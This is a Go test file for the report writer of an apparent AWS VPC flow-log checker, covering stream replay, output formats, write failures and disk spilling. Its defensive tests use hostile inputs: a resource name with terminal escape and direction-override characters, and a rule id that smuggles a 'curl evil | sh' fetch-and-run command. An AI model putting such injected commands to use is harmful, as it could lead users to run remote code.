package report

import (
	"bytes"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"flowproof/internal/event"
)

// saved is a stream as a live run writes it.
func saved(t testing.TB, events []event.Event) string {
	t.Helper()
	var out bytes.Buffer
	w := event.NewWriter(&out)
	for _, e := range events {
		if err := w.Handle(e); err != nil {
			t.Fatal(err)
		}
	}
	return out.String()
}

func replayed(t *testing.T, stream string) *event.Spool {
	t.Helper()
	spool := spoolOf(t, nil)
	if err := event.Replay(strings.NewReader(stream), spool); err != nil {
		t.Fatal(err)
	}
	return spool
}

// withoutProgress is a saved stream without its progress lines.
func withoutProgress(stream string) string {
	var kept strings.Builder
	for line := range strings.Lines(stream) {
		if !strings.HasPrefix(line, `{"type":"progress"`) {
			kept.WriteString(line)
		}
	}
	return kept.String()
}

// otherOrder is the same run with its scopes finished in the opposite order.
func otherOrder(events []event.Event) []event.Event {
	var blocks [][]event.Event
	for _, e := range events[1 : len(events)-1] {
		switch e.Type {
		case event.TypeGap, event.TypeProgress:
			continue
		case event.TypeScope:
			blocks = append(blocks, nil)
		}
		blocks[len(blocks)-1] = append(blocks[len(blocks)-1], e)
	}
	slices.Reverse(blocks)
	return slices.Concat(events[:1], slices.Concat(blocks...), events[len(events)-1:])
}

func TestReplayedStreamsGiveTheSameReports(t *testing.T) {
	t.Parallel()
	for name, events := range scenarios() {
		live, stream := spoolOf(t, events), saved(t, events)
		for how, spool := range map[string]*event.Spool{
			"as it was saved":       replayed(t, stream),
			"without progress":      replayed(t, withoutProgress(stream)),
			"in another order":      replayed(t, saved(t, otherOrder(events))),
			"from the jsonl report": replayed(t, string(written(t, look{format: JSONL}, live))),
		} {
			for _, l := range looks() {
				if diff := cmp.Diff(string(written(t, l, live)), string(written(t, l, spool))); diff != "" {
					t.Errorf("%s: %s: %s differs:\n%s", name, how, l.file, diff)
				}
			}
		}
	}
	if withoutProgress(saved(t, mixed())) == saved(t, mixed()) {
		t.Error("the streams have no progress to leave out")
	}
}

func TestEveryFormatIsWritten(t *testing.T) {
	t.Parallel()
	for _, format := range Formats() {
		if out := written(t, look{format: format}, spoolOf(t, mixed())); !bytes.HasSuffix(out, []byte("\n")) {
			t.Errorf("%s: does not end with a newline", format)
		}
	}
}

func TestNoDocumentIsMadeOfPartOfARun(t *testing.T) {
	t.Parallel()
	events := mixed()
	for name, part := range map[string][]event.Event{
		"nothing":     nil,
		"no summary":  events[:len(events)-1],
		"no run":      events[1:],
		"only a run":  events[:1],
		"only an end": events[len(events)-1:],
	} {
		for _, format := range Formats() {
			var out bytes.Buffer
			if err := Write(format, &out, spoolOf(t, part), Options{}); !errors.Is(err, event.ErrCutOff) || out.Len() > 0 {
				t.Errorf("%s of %s: %v, %d bytes", format, name, err, out.Len())
			}
		}
	}
}

func TestUnknownFormatNamesThoseThereAre(t *testing.T) {
	t.Parallel()
	err := Write("yaml", &bytes.Buffer{}, spoolOf(t, mixed()), Options{})
	if err == nil || !strings.Contains(err.Error(), `unknown format "yaml": there are text, json, jsonl`) {
		t.Errorf("got %v", err)
	}
}

// full is a disk with room for n more bytes.
type full struct{ n int }

var errFull = errors.New("no space left on device")

func (f *full) Write(b []byte) (int, error) {
	if f.n -= len(b); f.n < 0 {
		return 0, errFull
	}
	return len(b), nil
}

func TestReportsSayThatTheyCouldNotBeWritten(t *testing.T) {
	t.Parallel()
	spool := spoolOf(t, mixed())
	for _, format := range Formats() {
		whole := len(written(t, look{format: format}, spool))
		for _, room := range []int{0, 1, whole / 2, whole - 1} {
			if err := Write(format, &full{room}, spool, Options{}); !errors.Is(err, errFull) {
				t.Errorf("%s with room for %d of %d bytes: %v", format, room, whole, err)
			}
		}
	}
}

// The JSON document keeps what AWS said to the letter, and has every key and list even when the
// stream lacks them.
func TestJSONKeepsHostileTextAndEveryKey(t *testing.T) {
	t.Parallel()
	evil := "<b>&\u2028\u202e\x1b[2J\u009b"
	c := newScenario()
	c.read(production, "eu-west-1", 1).unrecorded("vpc-1", evil, false)
	events := c.end(1, 0)
	for _, e := range events {
		if e.Type == event.TypeFinding {
			e.Finding.Gaps, e.Finding.Evidence.FlowLogs = nil, nil
		}
	}
	events[0].Run.Rules[0].Controls = nil
	events[len(events)-1].Summary.Outcomes = nil
	raw := written(t, look{format: JSON}, spoolOf(t, events))
	if err := validate(t, compiled(t, scanSchema, true), raw); err != nil {
		t.Error(err)
	}
	if !bytes.Contains(raw, []byte("<b>&")) {
		t.Error("HTML characters were escaped")
	}
	var doc scanDocument
	if err := json.Unmarshal(raw, &doc); err != nil {
		t.Fatal(err)
	}
	if got := doc.Findings[0].Resource.Name; got != evil {
		t.Errorf("the name came back as %q", got)
	}
}

func TestRunWithoutAnythingIsADocument(t *testing.T) {
	t.Parallel()
	summary := event.NewSummary()
	spool := spoolOf(t, []event.Event{
		{Type: event.TypeRun, Run: &event.Run{Schema: event.Schema}},
		{Type: event.TypeSummary, Summary: &summary},
	})
	raw := written(t, look{format: JSON}, spool)
	if err := validate(t, compiled(t, scanSchema, true), raw); err != nil {
		t.Error(err)
	}
	want := "0 of 0 scopes read whole; no VPC to judge\n\n0 pass, 0 fail, 0 unknown; 0 calls, 0.0s\n"
	if got := string(written(t, look{format: Text}, spool)); got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

// A section that outgrows memory goes to disk and comes back whole, and its file goes.
func TestPileSpillsAndCleansUp(t *testing.T) {
	t.Parallel()
	for name, limit := range map[string]int{"in memory": 1 << 10, "on disk": 7, "on disk from the start": 0} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			p := pile{limit: limit}
			var want bytes.Buffer
			for i := range 20 {
				row := []byte(strings.Repeat(string(rune('a'+i)), i))
				want.Write(row)
				if _, err := p.Write(row); err != nil {
					t.Fatal(err)
				}
			}
			var got bytes.Buffer
			if err := p.copyTo(&got); err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(want.String(), got.String()); diff != "" {
				t.Error(diff)
			}
			if spilled := p.file != nil; spilled != (limit < 1<<10) {
				t.Errorf("on disk: %v", spilled)
			}
			if err := p.close(); err != nil {
				t.Fatal(err)
			}
			if p.file == nil {
				return
			}
			if _, err := os.Stat(filepath.Clean(p.file.Name())); !errors.Is(err, os.ErrNotExist) {
				t.Errorf("after close: %v", err)
			}
		})
	}
}

// What looks like a rule's id in a stream from elsewhere must not end up in a line to paste.
func TestOnlyRealRuleIDsAreSuggested(t *testing.T) {
	t.Parallel()
	c := newScenario()
	c.read(production, "eu-west-1", 1)
	c.judge("x; curl evil | sh", c.vpc("vpc-1", ""), "fail", "absent", "m")
	out := string(written(t, look{format: Text}, spoolOf(t, c.end(1, 0))))
	if strings.Contains(out, "kb show") {
		t.Errorf("suggests it:\n%s", out)
	}
}
